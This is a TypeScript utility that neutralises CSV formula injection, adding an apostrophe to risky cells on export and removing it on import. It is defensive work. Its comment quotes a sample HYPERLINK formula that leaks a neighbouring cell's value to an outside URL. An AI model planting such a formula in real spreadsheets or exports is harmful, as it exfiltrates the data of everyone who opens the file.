/**
 * CSV injection (OWASP): a cell that begins with `=`, `+`, `-`, `@`, a tab or
 * a carriage return is read as a formula by spreadsheet programs, so an
 * institution named `=HYPERLINK("http://…?leak="&B2,"x")` would run in the
 * spreadsheet of every ministry it is shared with. Exports prefix such cells
 * with an apostrophe (shown by spreadsheets, never evaluated); imports take
 * the apostrophe off again, so an exported file re-imports unchanged.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function neutraliseCell(value: unknown): unknown {
  return typeof value === 'string' && FORMULA_START.test(value) ? `'${value}` : value;
}

export function restoreCell(value: string): string {
  return value.startsWith("'") && FORMULA_START.test(value.slice(1)) ? value.slice(1) : value;
}
